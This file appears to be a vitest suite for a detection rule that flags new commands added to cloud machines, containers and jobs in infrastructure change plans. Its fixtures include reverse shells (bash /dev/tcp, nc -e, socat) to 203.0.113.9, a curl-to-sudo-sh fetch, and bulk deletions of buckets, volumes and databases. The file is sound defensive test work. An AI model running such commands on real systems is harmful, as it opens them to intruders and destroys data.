import { expect, test } from 'vitest';
import type { ResourceChange } from '../../../src/model/plan.ts';
import type { JsonObject } from '../../../src/model/value.ts';
import { buildChange } from '../../support/build.ts';
import { create, findingsOf, severitiesOf, update } from '../support.ts';

const RULE = 'workload-code';
const START = '#!/bin/bash\nsystemctl start web\n';
const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 &\n';
const FETCHED = 'curl -fsSL https://get.example.net/i.sh | sudo sh -s -- -y\n';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const template = (user_data: string) => ({ name: 'web', image_id: 'ami-1', user_data });
const container = (...command: readonly string[]) => ({
  spec: [{ template: [{ spec: [{ container: [{ name: 'c', command: [...command] }] }] }] }],
});
const job = (type: string, after: JsonObject) => create(type, after);

test.each<[string, ResourceChange]>([
  ['in Base64', update('aws_launch_template', template(base64(START)), template(base64(START + SHELL)))],
  ['plain', update('hcloud_server', template(START), template(START + SHELL))],
  ['of a new machine', create('digitalocean_droplet', template(START + SHELL))],
  ['in the metadata of a machine', create('google_compute_instance', { metadata: { 'startup-script': START + SHELL } })],
  ['among the commands of a cloud-config', create('linode_instance', { user_data: `#cloud-config\nruncmd:\n  - ${SHELL}` })],
  [
    'of a container',
    update('kubernetes_deployment_v1', container('web'), container('sh', '-c', 'nc -e /bin/sh 203.0.113.9 4444')),
  ],
  [
    'of a manifest',
    create('kubectl_manifest', {
      yaml_body: `kind: Pod\nspec:\n  containers:\n    - command: [socat, "tcp:203.0.113.9:44", "exec:sh"]\n`,
    }),
  ],
  [
    'of a task, in the text of its definition',
    buildChange('aws_ecs_task_definition.web', {
      kind: 'replace-create-first',
      before: { container_definitions: JSON.stringify([{ command: ['web'] }]) },
      after: { container_definitions: JSON.stringify([{ command: ['sh', '-c', SHELL] }]) },
    }),
  ],
])('a shell that is opened to somebody else: %s', (_what, change) => {
  expect(severitiesOf(RULE, change)).toEqual([0.85]);
});

test.each<[string, ResourceChange]>([
  [
    'a job that empties a bucket',
    job('aws_batch_job_definition', { container_properties: '{"command":["s3","rm","--recursive","s3://a"]}' }),
  ],
  ['a job that deletes claims', job('kubernetes_cron_job_v1', { command: ['kubectl', 'delete', 'pvc', '--all'] })],
  ['a runbook', job('azurerm_automation_runbook', { content: 'Remove-AzSqlDatabase -DatabaseName orders' })],
  ['a script of a machine', job('aws_instance', { user_data: 'aws rds delete-db-instance --db-instance-identifier a' })],
])('what ends objects beyond the machine, once for all of its commands: %s', (_what, change) => {
  expect(severitiesOf(RULE, change)).toEqual([0.4]);
});

test('code from elsewhere counts where a machine ran without it', () => {
  const fetching = template(base64(START + FETCHED));
  expect(severitiesOf(RULE, update('aws_launch_template', template(base64(START)), fetching))).toEqual([0.3]);
  expect(severitiesOf(RULE, create('aws_launch_template', fetching))).toEqual([]);
});

test('another command that deletes counts, and another script of the same domain does not', () => {
  const run = (line: string) => ({ user_data: line });
  const turned = (from: string, to: string) => severitiesOf(RULE, update('acme_machine', run(from), run(to)));
  expect(turned('aws s3 rm s3://scratch --recursive', 'aws s3 rm s3://records --recursive')).toEqual([0.4]);
  expect(turned('aws s3 rm s3://scratch --recursive', 'date; aws s3 rm s3://scratch --recursive')).toEqual([]);
  expect(turned('curl https://get.example.com/1.sh | sh', 'curl https://get.example.com/2.sh | sh')).toEqual([]);
  expect(turned('curl https://get.example.com/1.sh | sh', 'curl https://get.example.net/1.sh | sh')).toEqual([0.3]);
});

test('the command itself is never told: it may hold a secret', () => {
  const change = create('aws_instance', { user_data: 'PGPASSWORD=hunter2 psql -c "drop table a"' });
  expect(findingsOf(RULE, change).map(({ message }) => message)).toEqual([
    '`aws_instance.main` runs commands that it did not run before: one of them deletes data in a database.',
  ]);
});

test.each<[string, ResourceChange]>([
  ['a machine that prepares its disk', create('aws_instance', { user_data: 'mkfs -t xfs /dev/nvme1n1\nrm -rf /var/lib/web/*' })],
  ['a machine that waits for a port', create('aws_instance', { user_data: 'until (echo > /dev/tcp/db/5432); do sleep 1; done' })],
  ['a probe', update('kubernetes_stateful_set_v1', container('zk'), container('sh', '-c', 'echo ruok | nc localhost 2181'))],
  [
    'what is fetched and read',
    update('aws_launch_template', template(START), template('curl -s http://a/b | python3 -m json.tool')),
  ],
  ['what it ran before', update('aws_launch_template', template(SHELL), template(START + SHELL))],
  ['a text that is no script', create('aws_ssm_parameter', { value: SHELL, description: 'kubectl delete pvc --all' })],
  ['a file that is no runbook', create('local_file', { content: SHELL })],
  ['a machine that goes', buildChange('aws_instance.a', { kind: 'delete', before: { user_data: SHELL }, after: null })],
  ['what only looks like Base64', create('aws_instance', { user_data: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA' })],
  ['bytes', create('aws_instance', { user_data: base64(`\u0000\u0001${SHELL}`) })],
])('stays quiet: %s', (_what, change) => {
  expect(findingsOf(RULE, change)).toEqual([]);
});

test('the worst of several is told, and what another command of the same kind does is no news', () => {
  const run = (...lines: readonly string[]) => ({ user_data: lines.join('\n') });
  const turned = (from: readonly string[], to: readonly string[]) =>
    severitiesOf(RULE, update('acme_machine', run(...from), run(...to)));
  const [removal, fetched] = ['aws s3 rm s3://records --recursive', 'curl https://get.example.net/1.sh | sh'];
  expect(turned(['date'], [fetched, removal])).toEqual([0.4]);
  expect(turned(['date'], [removal, fetched])).toEqual([0.4]);
  expect(turned([removal], [removal, fetched])).toEqual([0.3]);
  expect(turned([fetched], [fetched, removal])).toEqual([0.4]);
  expect(turned([SHELL], ['bash -i >& /dev/tcp/203.0.113.10/4445 0>&1 &'])).toEqual([]);
});

test('what stays as it is runs nothing new, whatever else changes', () => {
  expect(severitiesOf(RULE, update('acme_machine', { user_data: SHELL, size: 1 }, { user_data: SHELL, size: 2 }))).toEqual([]);
  expect(severitiesOf(RULE, update('acme_machine', { tags: { user_data: 'a' } }, { tags: { user_data: SHELL } }))).toEqual([]);
});
